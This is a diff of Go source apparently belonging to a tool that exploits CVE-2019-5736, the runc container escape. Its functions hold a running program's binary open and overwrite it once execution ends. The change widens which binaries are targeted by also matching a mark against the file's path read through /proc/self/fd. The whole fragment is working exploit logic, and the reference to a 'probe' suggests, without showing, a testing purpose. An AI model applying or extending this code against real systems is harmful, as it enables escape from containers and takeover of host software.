@@ -96,7 +96,7 @@ func opened(pid int, name string, flags int) error {
 }
 
 // overwrite waits for a process whose program is not the probe, keeps the program open, and once it is no longer executed
-// writes to it: CVE-2019-5736. The words are marks at the end of programs that are worth it.
+// writes to it: CVE-2019-5736. The words are marks of programs that are worth it: their names, or what stands at their end.
 func overwrite(args []string) error {
 	fmt.Println("begin")
 	for {
@@ -135,11 +135,14 @@ func writeThrough(fd int) error {
 	return unix.ETXTBSY
 }
 
-// contains looks for a mark in the last bytes of a file.
+// contains looks for a mark in the name of a file, and in its last bytes.
 func contains(fd int, mark string) bool {
 	var st unix.Stat_t
 	if unix.Fstat(fd, &st) != nil {
 		return false
+	}
+	if name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil && strings.HasPrefix(name, mark) {
+		return true
 	}
 	end := make([]byte, min(st.Size, 4096))
 	_, err := unix.Pread(fd, end, st.Size-int64(len(end)))
